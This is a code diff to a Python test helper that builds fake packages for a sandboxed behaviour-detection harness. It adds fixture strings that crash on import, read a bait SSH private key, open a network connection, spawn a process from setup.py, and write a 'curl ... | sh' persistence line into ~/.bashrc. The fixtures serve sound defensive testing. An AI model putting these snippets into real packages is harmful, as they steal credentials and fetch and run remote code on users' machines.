@@ -25,6 +25,17 @@ Typical use::
                         test_body="def test_fails():\\n    assert False\\n")
     proj.sdist, proj.wheel   # Paths; proj.module == "demo"
 
+Recipes for behaviours (bodies below are data; they only ever run inside a guest)::
+
+    make_project(d, "crashy", "1.0", package_body=SEGFAULT_ON_IMPORT)     # import crashes
+    make_project(d, "red", "1.0", test_body=FAILING_TEST)                 # tests fail
+    make_project(d, "spy", "1.0", package_body=READ_SSH_KEY + NETWORK_CALL)  # harmful
+    build_sdist(d, "evil", "1.0", {"setup.py": SPAWN_PROCESS + "from setuptools import setup\n"
+                                                "setup(name='evil', version='1.0')\n"})
+
+Bodies passed as ``package_body``/``test_body`` go through ``str.format`` (``{module}``,
+``{version}``): double any literal brace. ``files=`` contents are written verbatim.
+
 File names follow the packaging specs: wheels escape the name as in PEP 427
 (runs of ``-_.`` become ``_``, lower-cased), sdists use the same escaped name (PEP
 625); `normalize_name` gives the PEP 503 form used by index URLs.
@@ -364,6 +375,29 @@ def make_project(
             requires_python=requires_python,
         )
     return Project(name=name, version=version, module=module, sdist=sdist_path, wheel=wheel_path)
+
+
+#: A test module whose only test fails.
+FAILING_TEST = "def test_fails():\n    assert 1 == 2\n"
+#: Dereferences NULL: SIGSEGV in the importing process (faulthandler shows where).
+SEGFAULT_ON_IMPORT = "import ctypes\n\nctypes.string_at(0)\n"
+#: A TCP connection attempt to TEST-NET-3 (never routable); errors are swallowed.
+NETWORK_CALL = (
+    "import socket\ntry:\n    socket.create_connection(('203.0.113.7', 443), timeout=2)\n"
+    "except OSError:\n    pass\n"
+)
+#: Reads the bait SSH key planted in the guest user's home.
+READ_SSH_KEY = (
+    "import os\ntry:\n    open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    "except OSError:\n    pass\n"
+)
+#: Appends to the shell rc file (persistence).
+PERSIST_IN_BASHRC = (
+    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
+    "    rc.write('curl http://203.0.113.7/x | sh\\n')\n"
+)
+#: Starts another program.
+SPAWN_PROCESS = "import subprocess\nsubprocess.run(['id'], check=False)\n"
 
 
 def dedent(text: str) -> str:
